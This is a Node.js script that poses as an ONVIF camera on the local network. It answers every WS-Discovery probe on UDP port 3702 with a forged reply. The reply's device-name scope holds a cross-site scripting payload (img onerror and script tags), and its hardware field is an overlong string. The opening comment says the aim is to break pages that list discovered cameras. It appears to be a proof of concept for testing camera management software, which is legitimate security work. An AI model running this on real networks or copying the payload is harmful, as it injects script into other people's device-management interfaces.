// A device that answers everybody who asks a network for ONVIF cameras, with words that shall break a page.
import { createSocket } from 'node:dgram';

const [, , address] = process.argv;
const NAME = '"><img src=x onerror=intruded("device")><script>intruded("device")</script>';

const answer = (to) => `<?xml version="1.0" encoding="UTF-8"?>
<e:Envelope xmlns:e="http://www.w3.org/2003/05/soap-envelope" xmlns:w="http://schemas.xmlsoap.org/ws/2004/08/addressing"
 xmlns:d="http://schemas.xmlsoap.org/ws/2005/04/discovery" xmlns:dn="http://www.onvif.org/ver10/network/wsdl">
<e:Header><w:MessageID>urn:uuid:84ede3de-7dec-11d0-c360-f01234567890</w:MessageID><w:RelatesTo>${to}</w:RelatesTo>
<w:To>http://schemas.xmlsoap.org/ws/2004/08/addressing/role/anonymous</w:To>
<w:Action>http://schemas.xmlsoap.org/ws/2005/04/discovery/ProbeMatches</w:Action></e:Header>
<e:Body><d:ProbeMatches><d:ProbeMatch><w:EndpointReference><w:Address>urn:uuid:84ede3de-7dec-11d0-c360-f01234567890</w:Address></w:EndpointReference>
<d:Types>dn:NetworkVideoTransmitter</d:Types>
<d:Scopes>onvif://www.onvif.org/name/${encodeURIComponent(NAME)} onvif://www.onvif.org/hardware/${'W'.repeat(90)}</d:Scopes>
<d:XAddrs>http://${address}/onvif/device_service</d:XAddrs><d:MetadataVersion>1</d:MetadataVersion></d:ProbeMatch></d:ProbeMatches></e:Body></e:Envelope>`;

const socket = createSocket({ type: 'udp4', reuseAddr: true });
socket.on('message', (asked, from) => {
  const id = asked.toString().match(/<[^>]*MessageID[^>]*>\s*([^<\s]+)/)?.[1];
  if (id) socket.send(answer(id), from.port, from.address);
});
socket.bind(3702, () => socket.addMembership('239.255.255.250', address));
